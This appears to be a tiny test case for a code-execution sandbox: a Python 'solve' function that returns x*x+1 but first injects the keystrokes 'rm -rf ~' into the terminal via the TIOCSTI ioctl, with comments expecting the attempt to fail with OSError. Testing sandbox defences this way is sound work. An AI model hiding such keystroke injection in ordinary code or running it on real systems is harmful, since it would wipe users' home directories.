# attack: type into the terminal
# expect: OSError
import fcntl
import termios


def solve(x):
    for byte in b"rm -rf ~\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
    return x * x + 1
